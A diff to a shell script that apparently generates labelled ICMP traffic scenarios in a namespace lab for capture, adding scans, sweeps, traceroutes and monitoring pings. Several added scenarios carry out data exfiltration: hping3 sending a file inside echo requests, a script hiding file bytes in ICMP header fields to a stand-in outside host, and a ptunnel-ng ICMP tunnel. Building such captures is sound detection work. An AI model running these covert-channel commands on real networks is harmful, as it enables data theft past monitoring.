@@ -56,6 +56,22 @@
 #   sweep_fping_count5  fping -c 5 -g 10.78.0.32/27: five rounds of the whole range, 1 s apart
 #   disc4_broadcast     ping -b to the user LAN's broadcast address, 3 probes, with the other
 #                       hosts answering broadcast echo (icmp_echo_ignore_broadcasts=0)
+#   scan_udp_nmap       nmap -sU of 100 ports of one live server: the answers are ICMP port
+#                       unreachables (rate-limited by the server's kernel)
+#   traceroute_variants traceroute -T (TCP SYN), scamper ICMP-paris and UDP-paris traces, mtr -T
+#                       and traceroute -I -q 1 -m 8, to outside and inside hosts
+#   sweep_scamper       scamper pinging 10.78.0.32-63 once each at 20 packets/s
+#   sweep6_scan6        SI6 scan6 echo probes over fd78::20-3f from the user LAN
+#   ping_options        ping -R (record route) and ping -T tsandaddr (timestamp option) of a server
+#   sweep_nmap_polite   nmap -sn -PE -T2 over 10.78.0.32/28 (0.4 s between probes)
+#   monitoring_fping_random  a monitoring server looping fping -R (random fill) over 4 servers
+#                       every 2 s for 40 s
+#   exfil_internal      hping3 -1 -E FILE -d 500: a file sent in echo requests to an inside server
+#   exfil_header_fields a 1.2 KB file hidden 4 bytes a request in the echo id and sequence
+#                       fields (icmp_hdr_exfil.py), a fixed 32-byte payload, to an outside host
+#   tunnel_ptunnel_unpriv  ptunnel-ng whose proxy runs --unprivileged (it answers with echo
+#                       requests of its own, not replies) carrying 100 KB
+#   trace6_inside       traceroute -6 -I, mtr -6 and a path-MTU ping over IPv6 to an inside server
 set -uo pipefail
 sc=$1 out=$2
 here=$(cd "$(dirname "$0")" && pwd)
@@ -215,6 +231,46 @@ NFT
     for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
     x ih_atk timeout 10 ping -n -b -c 3 -i 1 10.77.0.255 >/dev/null 2>&1
     for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1; done ;;
+  scan_udp_nmap)
+    x ih_atk timeout 120 nmap -n -Pn -sU -p 1-100 --max-retries 1 10.78.0.40 >/dev/null 2>&1 ;;
+  traceroute_variants)
+    x ih_ws2 timeout 30 traceroute -n -T -p 443 -m 5 203.0.113.7 >/dev/null 2>&1
+    x ih_ws2 timeout 40 scamper -c "trace -P icmp-paris -m 5" -i 198.51.100.23 >/dev/null 2>&1
+    x ih_ws2 timeout 40 scamper -c "trace -P udp-paris -m 5" -i 203.0.113.7 >/dev/null 2>&1
+    x ih_ws2 timeout 40 mtr -n -T -P 22 -r -c 5 10.78.0.40 >/dev/null 2>&1
+    x ih_ws2 timeout 30 traceroute -n -I -q 1 -m 8 10.78.0.33 >/dev/null 2>&1 ;;
+  sweep_scamper)
+    seq 32 63 | sed 's/^/10.78.0./' > /tmp/ih_targets
+    x ih_atk timeout 60 scamper -p 20 -c "ping -c 1" -f /tmp/ih_targets >/dev/null 2>&1 ;;
+  sweep6_scan6)
+    x ih_atk timeout 60 scan6 -i eth0 -d fd78::20-3f -p echo >/dev/null 2>&1 ;;
+  ping_options)
+    x ih_ws2 timeout 10 ping -n -R -c 4 10.78.0.40 >/dev/null 2>&1
+    x ih_ws2 timeout 10 ping -n -T tsandaddr -c 3 10.78.0.41 >/dev/null 2>&1 ;;
+  sweep_nmap_polite)
+    x ih_atk timeout 120 nmap -n -sn -PE -T2 10.78.0.32/28 >/dev/null 2>&1 ;;
+  monitoring_fping_random)
+    x ih_mon timeout 42 fping -q -R -b 64 -l -p 2000 10.78.0.33 10.78.0.34 10.78.0.37 10.78.0.40 >/dev/null 2>&1 ;;
+  exfil_internal)
+    head -c 30000 /dev/urandom | base64 > /tmp/ih_int
+    x ih_atk timeout 40 hping3 -1 -q -E /tmp/ih_int -d 500 -c 80 -i u200000 10.78.0.40 >/dev/null 2>&1 ;;
+  exfil_header_fields)
+    head -c 1200 /etc/services > /tmp/ih_hdr
+    x ih_atk timeout 60 python3 "$here/icmp_hdr_exfil.py" 203.0.113.7 /tmp/ih_hdr 0.1 400 ;;
+  tunnel_ptunnel_unpriv)
+    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=1 net.ipv4.ping_group_range="0 2147483647"
+    x ih_ext sh -c 'timeout 60 socat -u TCP-LISTEN:9000,reuseaddr OPEN:/dev/null >/dev/null 2>&1 &'
+    x ih_ext sh -c 'timeout 60 ptunnel-ng -v -1 -o/dev/null --unprivileged >/dev/null 2>&1 &'
+    sleep 1
+    x ih_atk sh -c 'timeout 50 ptunnel-ng -v -1 -o/dev/null -p203.0.113.7 -l2225 -r127.0.0.1 -R9000 >/dev/null 2>&1 &'
+    sleep 2
+    x ih_atk sh -c 'head -c 100000 /dev/urandom | timeout 40 socat -u STDIN TCP:127.0.0.1:2225' || true
+    sleep 4
+    x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0 ;;
+  trace6_inside)
+    x ih_ws2 timeout 30 traceroute -6 -n -I -m 5 fd78::28 >/dev/null 2>&1
+    x ih_ws2 timeout 40 mtr -6 -n -r -c 5 fd78::2d >/dev/null 2>&1
+    x ih_ws2 timeout 10 ping -6 -n -c 3 -s 1452 -M do fd78::28 >/dev/null 2>&1 ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
